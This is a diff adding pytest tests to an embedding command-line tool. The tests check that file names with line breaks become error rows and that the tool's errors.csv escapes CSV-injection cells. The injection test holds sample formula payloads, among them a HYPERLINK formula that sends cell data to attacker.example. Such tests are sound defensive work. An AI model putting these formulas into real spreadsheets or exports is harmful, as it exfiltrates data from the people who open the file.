@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import os
 import signal
@@ -152,6 +153,52 @@ def test_npy_output_holds_the_same_vectors_in_input_order(folder, tmp_path, in_p
         assert {r["id"]: r["error_code"] for r in csv.DictReader(errors)} == {
             i: code for i, code in FOLDER_OUTCOMES.items() if code}
     assert "(3 vectors), v.ids.txt, v.errors.csv" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("output", ["v.npy", "v.parquet"])
+def test_a_file_name_with_a_line_break_is_a_row_with_an_error_not_a_refusal(output, folder, photos, tmp_path,
+                                                                              in_process):
+    # ids.txt lists one id a line: such an id could not be listed, so that file fails, alone.
+    (folder / "two\nlines.jpg").write_bytes(photos["chelsea_0.jpg"])
+    (folder / "a" / "carriage\rreturn.png").write_bytes(photos["camera.png"])
+    assert cli.main(["embed", str(folder), "-o", str(tmp_path / output)]) == 0
+    written = rows(tmp_path / "v.parquet" if output.endswith(".parquet") else tmp_path / "v.npy.parts")
+    expected = {**FOLDER_OUTCOMES, "two\nlines.jpg": "invalid_input", "a/carriage\rreturn.png": "invalid_input"}
+    assert {i: r["error_code"] for i, r in written.items()} == expected
+    assert "holds a line break" in written["two\nlines.jpg"]["error_message"]
+    if output.endswith(".npy"):
+        assert (tmp_path / "v.ids.txt").read_text().split("\n") == [
+            *(i for i in (item.id for item in read_items(folder)) if expected[i] is None), ""]
+        with open(tmp_path / "v.errors.csv", newline="") as errors:
+            assert {r["id"]: r["error_code"] for r in csv.DictReader(errors)} == {
+                i: code for i, code in expected.items() if code}
+
+
+@pytest.mark.parametrize("kind", ["csv", "urls", "folder"])
+def test_errors_csv_cells_that_a_spreadsheet_would_run_are_text(kind, folder, tmp_path, in_process):
+    # OWASP's CSV injection: a cell that begins with = + - @ tab or CR is a formula to a spreadsheet.
+    hostile = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "+SUM(1)", "-2+3", "@SUM(1)", "\tTAB", "\rCR"]
+    if kind == "csv":
+        source = tmp_path / "items.csv"
+        with source.open("w", newline="") as out:
+            csv.writer(out).writerows([["id", "text"], *([i, ""] for i in hostile), ["a=b", ""], ["fine", "a cat"]])
+    elif kind == "urls":  # a URL list's id is the line itself (stripped: no leading tab or CR)
+        hostile = hostile[:4]
+        source = tmp_path / "urls.txt"
+        source.write_text("".join(f"{line}\n" for line in [*hostile, "a=b"]))
+    else:  # a file name cannot hold a slash
+        hostile = ["=1+1.jpg", "+SUM(1).jpg", "-2+3.jpg", "@SUM(1).jpg", "\tTAB.jpg", "\rCR.jpg"]
+        source = folder
+        for name in [*hostile, "a=b.jpg"]:
+            (folder / name).write_text("not an image")
+    assert cli.main(["embed", str(source), "-o", str(tmp_path / "v.npy")]) == 0
+
+    text = (tmp_path / "v.errors.csv").read_bytes().decode("utf-8")  # as it is: no newline translation
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    ids = [row["id"] for row in csv.DictReader(io.StringIO(text, newline=""))]
+    assert set(ids) >= {"'" + i for i in hostile} | {"a=b" if kind != "folder" else "a=b.jpg"}
+    assert set(rows(tmp_path / "v.npy.parts")) >= set(hostile)  # the Parquet parts keep the ids as they are
 
 
 # --- resumption -----------------------------------------------------------------------------------------
